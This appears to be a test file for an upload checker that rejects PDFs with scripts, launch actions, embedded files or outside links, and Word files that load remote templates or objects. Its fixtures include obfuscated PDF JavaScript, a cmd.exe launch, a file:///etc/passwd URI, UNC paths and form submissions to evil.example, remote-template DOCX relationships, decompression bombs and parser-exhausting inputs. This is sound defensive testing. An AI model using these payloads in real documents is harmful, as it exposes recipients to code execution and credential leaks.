import { deflateSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { recognise } from './recognise.ts'
import { makeDocx, makePdfOf, relationsPart } from './sample-files.fixture.ts'
import { workingMs } from './working-time.fixture.ts'

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const refusalOf = async (bytes: Buffer) => {
  const found = await recognise(bytes)
  return found.ok ? null : found.refusal
}

describe('a PDF that acts', () => {
  it.each([
    ['a script', script],
    ['a script when it opens', `<< /OpenAction ${script} >>`],
    ['a script by reference', '<< /S /Rendition /JS 12 0 R >>'],
    ['a script behind an array', '[1]/JS<6170>'],
    ['a script in other letters', '<< /S /J#61vaScript >>'],
    ['a script in codes alone', '<< /#4A#53 (app) >>'],
    ['a script behind a remark', '<< /A 1 /JS % (\n (app.alert(1)) >>'],
    ['a program to start', '<< /S /Launch /F (cmd.exe) >>'],
    ['a program in other letters', '<< /S /L#61unc#68 >>'],
    ['an attached file', '<< /Type /EmbeddedFile /Length 3 >>'],
    ['an attached file without its type', '<< /Type /Filespec /EF << /F 9 0 R >> >>'],
    ['a list of attached files', '<< /Names << /EmbeddedFiles 5 0 R >> >>'],
    ['a film with a script', '<< /Subtype /RichMedia >>'],
    ['a film', '<< /Subtype /Movie /Movie << /F (a.avi) >> >>'],
    ['a page of an attached file', '<< /OpenAction << /S /GoToE /T << /R /C >> >> >>'],
    ['a page of another file', '<< /S /GoToR /F (\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>'],
    ['an article of another file', '<< /S /Thread /F (\\\\evil.example\\\\a.pdf) /D 0 >>'],
    ['a form to send', '<< /AA << /O << /S /SubmitForm /F (https://evil.example) >> >> >>'],
    ['a form to fetch', '<< /S /ImportData /F (a.fdf) >>'],
    ['a form in XML', '<< /AcroForm << /XFA [(preamble) 9 0 R] >> >>'],
    ['a form in XML by reference', '<< /AcroForm << /Fields [] /XFA 9 0 R >> >>'],
    ['a file of the reader', '<< /S /URI /URI (file:///etc/passwd) >>'],
    ['a file of the reader in codes', '<< /S /URI /U#52I (\\146I\\\nle:) >>'],
    ['a file of the reader in hex', '<< /S /URI /URI <FEFF0066 0049006C0065003a> >>'],
    ['a machine of the reader’s network', '<< /S /URI /URI (\\\\\\\\evil.example\\\\a) >>'],
    ['a file to begin all links', '<< /URI << /Base (file://evil.example/) >> >>'],
    ['an address that stands elsewhere', '<< /S /URI /URI 12 0 R >>'],
    ['a script behind a false stream', `% stream\n${script}\n% endstream`],
  ])('%s is refused, plain and packed', async (_name, objects) => {
    expect(await refusalOf(makePdfOf(objects))).toBe('isActivePdf')
    expect(await refusalOf(makePdfOf(objects, { packed: true }))).toBe('isActivePdf')
    expect(await refusalOf(makePdfOf(objects, { packed: true, type: '' }))).toBe('isActivePdf')
    expect(await refusalOf(makePdfOf(objects, { packed: true, type: '/Type /Obj#53tm' }))).toBe('isActivePdf')
  })

  it.each([
    ['packed twice', '/Filter [/ASCIIHexDecode /FlateDecode]'],
    ['packed in another way', '/Filter /LZWDecode'],
    ['with prediction', '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>'],
  ])('one whose objects are %s cannot be checked, and is refused', async (_name, filter) => {
    expect(await refusalOf(makePdfOf(script, { packed: true, filter }))).toBe('isLockedPdf')
  })

  it('one whose packed objects are encrypted cannot be checked', async () => {
    const locked = makePdfOf('<< /Encrypt 5 0 R >> << /Type /ObjStm /First 4 >>\nstream\nxxxx\nendstream')
    expect(await refusalOf(locked)).toBe('isLockedPdf')
  })

  it('one that becomes far too much cannot be checked, in bounded memory', async () => {
    const bomb = makePdfOf(' '.repeat(33 << 20), { packed: true })
    expect(await refusalOf(bomb)).toBe('isLockedPdf')
  })

  it.each<[string, () => string]>([
    ['a million streams', () => 'stream\n'.repeat(1_000_000)],
    ['packed objects without end', () => '/First 1/Fl stream\n'.repeat(300_000)],
    ['a number without end', () => `<< /Type /Catalog /First ${'1'.repeat(5_000_000)} >>\nstream\nx`],
    ['remarks without end', () => `/JS ${'%'.repeat(5_000_000)}`],
    ['space without end', () => ` /JS${' '.repeat(5_000_000)}`],
    ['beginnings of scripts without end', () => '>/JS%'.repeat(1_000_000)],
    ['beginnings with space between', () => `>/JS${' '.repeat(60)}`.repeat(80_000)],
    ['beginnings of numbers without end', () => `${'/First%'.repeat(700_000)}stream\n`],
    ['beginnings of links without end', () => '/URI('.repeat(2_000_000)],
    ['halves of references', () => '>/EF 1234567890 12345 '.repeat(250_000)],
  ])('%s does not hold up everyone else', async (_name, objects) => {
    const bytes = makePdfOf(objects())
    expect(await workingMs(() => refusalOf(bytes))).toBeLessThan(4_000)
  })

  it.each([
    ['a remark after the name', '<< /S /JavaScript#20 /JS% remark\n(app.alert(1)) >>'],
    ['much white space after the name', `<< /JS${' '.repeat(500)}(app.alert(1)) >>`],
    ['remarks inside a reference', '<< /JS 12 % a\n0 % b\nR >>'],
  ])('one with %s is refused', async (_name, objects) => {
    expect(await refusalOf(makePdfOf(objects))).toBe('isActivePdf')
  })

  it.each([
    ['links', '<< /S /URI /URI (https://example.com/a) >>'],
    ['a link to write to', '<< /S /URI /URI (mailto:care@banksia.example) /IsMap false >>'],
    ['a link in hex', '<< /A << /S /URI /URI <68747470733A2F2F6578616D706C652E636F6D> >> >>'],
    ['a form of its own', '<< /AcroForm << /Fields [5 0 R] >> >>'],
    ['articles and pages of its own', '<< /Threads [4 0 R] /S /GoTo /D [0 /Fit] >>'],
    ['a first page to show', '<< /OpenAction [3 0 R /Fit] >>'],
    ['an outline', '<< /Type /Outlines /First 3 0 R /Last 9 0 R /Count 2 >>'],
    ['names that only begin alike', '<< /JSX (a) /Launches 1 /EFG << >> >>'],
    ['a note about scripts', '<< /Contents (JavaScript and Launch) >>'],
  ])('one with %s is taken', async (_name, objects) => {
    expect(await refusalOf(makePdfOf(objects))).toBeNull()
    expect(await refusalOf(makePdfOf(objects, { packed: true }))).toBeNull()
  })

  it('is not seen in the noise of a picture', async () => {
    const noise = Buffer.concat(
      Array.from({ length: 40 }, (_, index) => deflateSync(Buffer.from(`${index}`.repeat(999)))),
    ).toString('latin1')
    const picture = `<< /Subtype /Image /Filter /DCTDecode >>\nstream\n${noise}/JS\x9a${noise}\nendstream`
    expect(await refusalOf(makePdfOf(picture))).toBeNull()
  })
})

describe('a Word document that loads something', () => {
  const external = (type: string) =>
    `Type="${office}/${type}" Target="https://evil.example/x" TargetMode="External"`

  it.each([
    ['a template', relationsPart(external('attachedTemplate'))],
    ['a linked object', relationsPart(external('oleObject'), 'word/_rels/document.xml.rels')],
    ['a linked picture', relationsPart(external('image'), 'word/_rels/document.xml.rels')],
    ['a template, in other quotes', relationsPart(external('attachedTemplate').replaceAll('"', "'"))],
    [
      'a template, in numbers',
      relationsPart(external('attachedTemplate').replace('External', '&#69;xterna&#x6c;')),
    ],
    [
      'a template, behind a bracket',
      relationsPart(`Type="${office}/attachedTemplate" Target="a>b" TargetMode="External"`),
    ],
    ['a template of the package', relationsPart(external('attachedTemplate'), '_rels/.rels')],
    ['an object of another program', { name: 'word/embeddings/oleObject1.bin' }],
    ['a control', { name: 'word/activeX/activeX1.xml' }],
  ])('%s: refused', async (_name, part) => {
    const parts = part.name === '_rels/.rels' ? { ...part, name: 'x/_rels/.rels' } : part
    expect(await refusalOf(makeDocx(parts))).toBe('hasObjects')
  })

  it('with words of its own in the XML is refused', async () => {
    const part = {
      name: 'word/_rels/a.rels',
      content: '<!DOCTYPE x [<!ENTITY e "External">]><Relationships/>',
    }
    expect(await refusalOf(makeDocx(part))).toBe('unsafeArchive')
  })

  it.each([
    ['tags without end', '<Relationship '.repeat(70_000)],
    ['quotes without end', `<Relationship a="${'<Relationship b="'.repeat(60_000)}`],
    ['a name without end', `<Relationship ${'a'.repeat(900_000)}/>`],
    ['space without end', `<Relationship a${' '.repeat(900_000)}/>`],
  ])('with %s is checked quickly', async (_name, content) => {
    const bytes = makeDocx({ name: 'word/_rels/a.rels', content })
    expect(await workingMs(() => refusalOf(bytes))).toBeLessThan(4_000)
  })

  it.each([
    ['a link to press', relationsPart(external('hyperlink'), 'word/_rels/document.xml.rels')],
    ['its own picture', relationsPart(`Type="${office}/image" Target="media/image1.png"`)],
    ['the table of a chart', { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx' }],
  ])('with %s is taken', async (_name, part) => {
    expect(await refusalOf(makeDocx(part))).toBeNull()
  })
})
